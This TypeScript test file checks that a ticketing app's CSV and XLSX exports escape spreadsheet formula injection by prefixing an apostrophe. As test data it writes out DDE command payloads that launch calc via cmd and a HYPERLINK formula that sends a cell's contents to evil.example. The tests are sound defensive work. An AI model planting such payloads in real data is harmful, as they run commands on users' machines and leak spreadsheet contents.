// Formula injection through the real exports (#7 item 8): a user-typed subject or a contractor's
// name that Excel would run comes out as text in the work-list CSV/XLSX and the penalty register.
import { beforeAll, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describeEachDb, type Client } from './helpers/app.ts';
import { ok } from './fixtures/workflow/workflow.ts';

const PAYLOAD = "-1+1+cmd|' /C calc'!A0";
const HYPERLINK = '  =HYPERLINK("http://evil.example/?x="&A1,"x")';

async function firstSheet(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
  return wb.worksheets[0];
}

describeEachDb('export escaping', (env) => {
  let admin: Client;
  let number = '';

  beforeAll(async () => {
    admin = await env.login('admin');
    const requester = await env.login('richiedente');
    const building = await env.db.selectFrom('buildings').select('id').where('code', '=', 'MI-B01').executeTakeFirstOrThrow();
    const t = ok(await requester.post('/api/tickets', { buildingId: building.id, subject: 'Perdita', description: 'Perdita.' }), 201);
    number = t.number;
    // Stored as typed (an API client or mail-in can send leading spaces the form would trim).
    await env.db.updateTable('tickets').set({ subject: PAYLOAD, description: HYPERLINK }).where('id', '=', t.id).execute();
  });

  it('CSV: the subject and description get the apostrophe, the rest is unchanged', async () => {
    const res = await admin.get(`/api/tickets/export?format=csv&q=${encodeURIComponent(number)}`);
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const header = rows[0];
    const row = rows.find((r) => r[0] === number)!;
    expect(row[header.indexOf('Oggetto')]).toBe(`'${PAYLOAD}`);
    expect(row[header.indexOf('Descrizione')]).toBe(`'${HYPERLINK}`);
    // Numeric columns stay numbers.
    expect(row[header.indexOf('Riaperture')]).toMatch(/^\d+$/);
  });

  it('XLSX: text cells escaped, numbers still numbers', async () => {
    const res = await admin.get(`/api/tickets/export?format=xlsx&q=${encodeURIComponent(number)}`);
    expect(res.statusCode).toBe(200);
    const ws = await firstSheet(res.rawPayload);
    const header = (ws.getRow(1).values as unknown[]).map(String);
    const row = ws.getRow(2);
    expect(row.getCell(header.indexOf('Oggetto')).value).toBe(`'${PAYLOAD}`);
    expect(row.getCell(header.indexOf('Descrizione')).value).toBe(`'${HYPERLINK}`);
    expect(typeof row.getCell(header.indexOf('Riaperture')).value).toBe('number');
  });

  it('penalty register XLSX: a contractor name that is a formula is text', async () => {
    const contract = await env.db
      .selectFrom('contracts')
      .select(['id', 'contractor_id'])
      .where('lot', '=', 'Lotto 2')
      .executeTakeFirstOrThrow();
    await env.db.updateTable('contractors').set({ name: '@SUM(1+1)*cmd|/C calc!A0' }).where('id', '=', contract.contractor_id).execute();
    const res = await admin.get(`/api/penalties/register?contractId=${contract.id}&period=2026&format=xlsx`);
    expect(res.statusCode).toBe(200);
    const ws = await firstSheet(res.rawPayload);
    expect(ws.getRow(2).getCell(2).value).toBe("'@SUM(1+1)*cmd|/C calc!A0");
  });
});
